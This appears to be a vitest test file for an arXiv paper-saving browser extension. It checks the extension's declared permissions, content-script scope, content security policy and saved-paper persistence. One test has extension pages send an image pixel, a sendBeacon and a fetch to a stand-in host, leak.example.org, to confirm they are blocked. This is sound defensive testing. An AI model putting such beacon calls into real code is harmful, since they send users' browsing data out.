import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, expect, inject, it } from 'vitest'
import { readPanel } from '../../tools/browser/panel.ts'
import { readPopup, searchFor } from '../../tools/browser/popup.ts'
import { addresses, describeExtension } from './extension.ts'
import { builtFor } from './needs-build.ts'

const manifest = JSON.parse(readFileSync(join(builtFor[inject('browserKind')], 'manifest.json'), 'utf8'))

describeExtension('the promises of the README', (run) => {
  afterEach(async () => {
    for (const page of await run.current.browser.pages()) if (page.url() !== 'about:blank') await page.close()
  })

  it('asks for four permissions, and for no site', () => {
    expect(manifest.permissions.toSorted()).toEqual(['activeTab', 'contextMenus', 'scripting', 'storage'])
    expect(manifest.host_permissions).toBeUndefined()
    expect(manifest.optional_host_permissions).toBeUndefined()
    expect(manifest.externally_connectable).toBeUndefined()
  })

  it('has one script on web pages, on pages of one paper at arXiv and ar5iv alone', () => {
    expect(manifest.content_scripts).toHaveLength(1)
    for (const pattern of manifest.content_scripts[0].matches)
      expect(pattern).toMatch(
        /^https:\/\/((www\.|export\.)?arxiv\.org|ar5iv(\.labs\.arxiv)?\.org)\/(abs|html)\/\*$/,
      )
  })

  it('lets its pages load nothing but its own files', () => {
    const policy: string = manifest.content_security_policy.extension_pages
    const sources = policy.split(';').map((directive) => directive.trim().split(' ').slice(1).join(' '))
    expect(new Set(sources)).toEqual(new Set(["'none'", "'self'"]))
  })

  it.each(['popup.html', 'library.html'])('keeps %s off the net even if its code tried', async (path) => {
    const page = await run.current.openOwn(path)
    const outcome = await page.evaluate(async () => {
      new Image().src = 'https://leak.example.org/pixel.png'
      navigator.sendBeacon('https://leak.example.org/beacon', 'x')
      return fetch('https://leak.example.org/').then(
        () => 'fetched',
        () => 'refused',
      )
    })
    expect(outcome).toBe('refused')
  })

  it('would have seen a request that did leave, from a page that is served or one that is not', async () => {
    const served = await run.current.open(addresses.noPaper)
    await served.evaluate(() => fetch('https://leak.example.org/').catch(() => {}))
    const other = await run.current.browser.newPage()
    await other.goto('https://other.example.org/').catch(() => {})
    await other.close()
    const left = run.wire.left.splice(0).map((url) => new URL(url).hostname)
    expect(new Set(left)).toEqual(new Set(['leak.example.org', 'other.example.org']))
  })

  it('keeps a paper that was saved, over a restart, and knows it when it is open again', async () => {
    const tab = await run.current.open(addresses.publisher)
    const popup = await run.current.openPopup(tab)
    await readPopup(popup)
    await popup.locator('.pk-head button ::-p-text(Save)').click()
    await popup.waitForSelector('.pk-head .pk-held')
    await run.current.stopBackground()
    await run.restart()
    const later = await run.current.openOwn('popup.html')
    expect((await searchFor(later, 'frozen features warm starts')).rows[0]?.title).toContain(
      'Frozen Features, Warm Starts',
    )
    await later.close()
    const again = await run.current.openPopup(await run.current.open(addresses.publisher))
    await readPopup(again)
    expect(await again.$eval('.pk-head .pk-held', (mark) => mark.textContent)).toBe('You have this: ✓ Saved')
  })

  it('says nothing about a page that is no paper', async () => {
    const page = await run.current.open(addresses.noPaper)
    await readPanel(await run.current.open(addresses.bundled))
    expect(await page.evaluate(() => document.querySelectorAll('paperkin-hints').length)).toBe(0)
    expect((await readPopup(await run.current.openPopup(page))).head).toBeUndefined()
  })
})
